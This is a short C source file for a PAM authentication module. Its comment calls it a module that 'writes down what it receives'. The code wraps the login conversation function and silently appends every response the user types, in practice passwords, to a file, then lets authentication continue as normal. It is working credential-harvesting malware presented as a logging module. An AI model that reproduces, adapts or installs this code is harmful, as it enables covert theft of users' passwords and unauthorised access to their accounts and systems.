/*
 * A PAM module of a host that writes down what it receives: it puts itself between the conversation
 * and the modules behind it. Argument: the file.
 */
#include <stdio.h>
#include <security/pam_appl.h>
#include <security/pam_modules.h>

static struct pam_conv original;
static const char *record;

static int
observe(int count, const struct pam_message **messages, struct pam_response **responses, void *data)
{
    int rc = original.conv(count, messages, responses, data);
    FILE *file = rc == PAM_SUCCESS ? fopen(record, "a") : NULL;

    for (int i = 0; file != NULL && i < count; i++)
        if ((*responses)[i].resp != NULL)
            fprintf(file, "%s", (*responses)[i].resp);
    if (file != NULL)
        (void)fclose(file);
    return rc;
}

int
pam_sm_authenticate(pam_handle_t *pamh, int flags, int argc, const char **argv)
{
    const void *item = NULL;

    (void)flags;
    if (argc != 1 || pam_get_item(pamh, PAM_CONV, &item) != PAM_SUCCESS || item == NULL)
        return PAM_SYSTEM_ERR;
    original = *(const struct pam_conv *)item;
    record = argv[0];
    const struct pam_conv observer = {observe, original.appdata_ptr};
    return pam_set_item(pamh, PAM_CONV, &observer) == PAM_SUCCESS ? PAM_IGNORE : PAM_SYSTEM_ERR;
}

int
pam_sm_setcred(pam_handle_t *pamh, int flags, int argc, const char **argv)
{
    (void)pamh;
    (void)flags;
    (void)argc;
    (void)argv;
    return PAM_IGNORE;
}
